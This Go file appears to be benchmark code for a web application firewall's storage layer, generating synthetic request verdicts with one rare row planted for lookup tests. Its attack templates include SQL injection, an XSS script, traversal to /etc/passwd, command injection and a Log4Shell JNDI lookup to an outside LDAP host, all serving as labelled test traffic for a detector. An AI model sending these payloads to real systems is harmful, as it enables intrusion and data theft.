package storebench

import (
	"fmt"
	"math"
	"math/rand/v2"
	"strconv"
	"time"

	"github.com/limen-waf/limen/store"
)

// Digests of the models and the policy of the rows.
const (
	busyModel   = "sha256:1111111111111111111111111111111111111111111111111111111111111111"
	oldModel    = "sha256:2222222222222222222222222222222222222222222222222222222222222222"
	rareModel   = "sha256:3333333333333333333333333333333333333333333333333333333333333333"
	absentModel = "sha256:4444444444444444444444444444444444444444444444444444444444444444"
	policy      = "sha256:5555555555555555555555555555555555555555555555555555555555555555"
)

// What the one rare row has and no other. Its values and the absent ones begin like
// common ones, so that nothing is found by the beginning alone.
const (
	rareHost      = "host-rare.example.com"
	rareClient    = "198.18.255.254"
	rarePrincipal = "user-rare"
	rarePath      = "/shop/product/rare?page=1"
	rareClass     = "xxe"
	rareScore     = 0.0004321
	// quietHost is busy and never attacked; quietPath is common, but not there.
	quietHost = "host-1.example.com"
	quietPath = "/wiki/"
)

// traffic makes rows of an invented company: forty hosts, some far busier than others,
// a few hundred thousand clients, five thousand of whose users are logged in, and
// one request in a hundred an attack. The same seed gives the same rows.
type traffic struct {
	r       *rand.Rand
	hosts   *rand.Zipf
	clients *rand.Zipf
	users   *rand.Zipf
	sources *rand.Zipf
	row     int // of the next row
	rows    int // of all
}

func newTraffic(rows int, seed uint64) *traffic {
	r := rand.New(rand.NewPCG(seed, uint64(rows)))
	return &traffic{
		r: r, rows: rows,
		hosts:   rand.NewZipf(r, 1.2, 2, 39),
		clients: rand.NewZipf(r, 1.05, 50, 300_000),
		users:   rand.NewZipf(r, 1.1, 20, 5_000),
		sources: rand.NewZipf(r, 1.3, 5, 2_000),
	}
}

var (
	sections = []string{"/shop/product/", "/shop/cart/", "/blog/2026/", "/api/v1/orders/", "/api/v1/users/", "/static/img/", "/search", "/account/", "/"}
	attacks  = []struct{ class, target string }{
		{"sqli", "/shop/product/%d?id=1%%27%%20OR%%201=1--"}, {"xss", "/search?q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E"},
		{"traversal", "/static/../../../../etc/passwd?%d"}, {"cmdi", "/api/v1/ping?host=127.0.0.1;id%%20%d"},
		{"log4shell", "/?x=$%%7Bjndi:ldap://198.51.100.7/%d%%7D"}, {"shellshock", "/cgi-bin/status?%d"}, {"other", "/.env?%d"},
	}
	classes = []string{"none", "sqli", "xss", "traversal", "cmdi", "log4shell", "shellshock", "xxe", "other"}
)

// next fills v with the next row. The ID and the time are the caller's.
func (t *traffic) next(v *store.Verdict) {
	r := t.r
	host := int(t.hosts.Uint64())
	client := t.clients.Uint64()
	*v = store.Verdict{
		RequestDigest: fmt.Sprintf("sha256:%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64()),
		Method:        "GET", Host: "host-" + strconv.Itoa(host) + ".example.com",
		ClientIP: address(client), Server: "srv0", Route: "host-" + strconv.Itoa(host) + ".example.com",
		// Most requests score about a thousandth, with a long tail.
		Score: math.Min(math.Exp(r.NormFloat64()*0.9-6.5), 0.6), Class: "none", Decision: store.Allow, Mode: "block", Threshold: 0.95,
		Sampled: true, PolicyDigest: policy, ModelDigest: busyModel, TokenizerVersion: 3, Engine: "native", Device: "cpu/avx2",
		BatchSize: 1, QueueMicros: int64(r.IntN(20)), TokenizeMicros: int64(5 + r.IntN(40)), InferMicros: int64(80 + r.IntN(400)),
		BytesInspected: int64(300 + r.IntN(900)), DecodeDepth: 1, Windows: 1, Status: 200, UpstreamMicros: int64(500 + r.IntN(40_000)),
	}
	v.BytesSent = v.BytesInspected
	section := sections[r.IntN(len(sections))]
	if host == 2 && r.IntN(2) == 0 {
		section = quietPath
	}
	v.Path = section
	if section[len(section)-1] == '/' && len(section) > 1 {
		v.Path += strconv.Itoa(r.IntN(20_000))
	}
	if r.IntN(3) == 0 {
		v.Path += "?page=" + strconv.Itoa(r.IntN(50)) + "&sort=price"
	}
	if r.IntN(5) == 0 {
		v.Principal = "user-" + strconv.Itoa(int(t.users.Uint64()))
	}
	if r.IntN(10) == 0 {
		v.Method = "POST"
	}
	if t.row < t.rows/4 {
		v.ModelDigest = oldModel
	}
	if r.IntN(100) == 0 && host != 1 {
		a := attacks[r.IntN(len(attacks))]
		v.Class, v.Path, v.ClientIP = a.class, fmt.Sprintf(a.target, r.IntN(1000)), address(400_000+t.sources.Uint64())
		v.Score = 1 - math.Exp(r.NormFloat64()-5)
		v.Decision, v.Status, v.Principal, v.UpstreamMicros = store.Block, 403, "", 0
		if v.Score < v.Threshold {
			v.Decision, v.Status = store.Tag, 200
		}
	}
	v.ClassScores = scores(v, r)
	if t.row == t.rows*3/5 {
		v.Host, v.ClientIP, v.Principal, v.Path = rareHost, rareClient, rarePrincipal, rarePath
		v.Class, v.Decision, v.Score, v.ModelDigest = rareClass, store.Tag, rareScore, rareModel
	}
	t.row++
}

func address(n uint64) string {
	return fmt.Sprintf("10.%d.%d.%d", n>>16&255, n>>8&255, n&255)
}

// scores spreads v's score over the classes.
func scores(v *store.Verdict, r *rand.Rand) store.ClassScores {
	out := make(store.ClassScores, len(classes))
	rest := v.Score
	for i, class := range classes[1:] {
		share := rest * r.Float64()
		if class == v.Class {
			share = v.Score * 0.9
		}
		rest = max(rest-share, 0)
		out[i+1] = store.ClassScore{Class: class, Score: float32(share)}
	}
	out[0] = store.ClassScore{Class: "none", Score: float32(1 - v.Score)}
	return out
}

// start is the time of the first row: long ago, so that rows of any span lie behind
// the present.
var start = time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)
